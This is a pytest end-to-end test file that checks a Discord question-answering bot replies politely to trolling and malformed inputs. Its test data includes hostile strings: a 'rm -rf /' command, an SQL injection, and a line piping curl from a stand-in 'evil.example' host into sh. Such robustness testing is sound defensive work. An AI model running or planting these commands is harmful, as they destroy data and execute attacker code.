"""Trolls, walls of text and odd characters: every question gets a polite reply, never a crash."""

from __future__ import annotations

import logging

import pytest

from tests.e2e.conftest import Running
from tests.e2e.test_bot_e2e import all_text, embed_of

BAD_QUESTIONS = {
    "one character": "?",
    "only stopwords": "what is the and of it",
    "only punctuation": "?!?!... ,,, ;;",
    "emoji": "🙂🔥🇰🇵💣",
    "zero-width and right-to-left": "\u200bNorth\u200b \u202eKorea\u202c arms\u2066?",
    "code block": "```python\nimport os; os.system('rm -rf /')\n```",
    "mentions": "@everyone @here <@&123456789012345678> <@123456789012345678> did Kim meet Putin?",
    "markdown and link injection": "**bold** ||spoiler|| [click](https://evil.example) # heading > quote",
    "control characters": "North\x00 Korea\x07 arms\x1b[31m",
    "sql": "'; DROP TABLE feedback; --",
    "shell": "$(curl evil.example | sh) && echo pwned",
    "longest slash question": ("Did North Korea send arms to Russia? " * 30)[:1000],
}


@pytest.mark.parametrize("question", BAD_QUESTIONS.values(), ids=BAD_QUESTIONS.keys())
async def test_bad_slash_questions_get_a_polite_answer(env: Running, question, caplog):
    caplog.set_level(logging.ERROR)
    record = await env.fake.invoke_slash("ask", {"question": question})
    (followup,) = await record.wait_followups(1)
    embed = embed_of(followup)
    assert embed.get("fields") or "Nothing in the corpus answers this" in embed["description"]
    assert followup["allowed_mentions"] == {"parse": []}
    assert "@everyone" not in all_text(embed) and "<@&123456789012345678>" not in all_text(embed)
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]


async def test_whitespace_slash_question_gets_help(env: Running):
    record = await env.fake.invoke_slash("ask", {"question": "   "})
    response = await record.wait_response()
    assert "Ask me about the articles" in response["data"]["content"]


@pytest.mark.parametrize("content", ["", "   ", "x" * 1975, "North Korea arms " * 117])
async def test_bad_mentions_get_a_reply(env: Running, content, caplog):
    caplog.set_level(logging.ERROR)
    fake = env.fake
    await fake.post_message(fake.channel, fake.member, content, mention_bot=True)
    reply = await fake.wait_for_bot_message(fake.channel)
    assert reply.embeds or "Ask me about the articles" in reply.content
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]
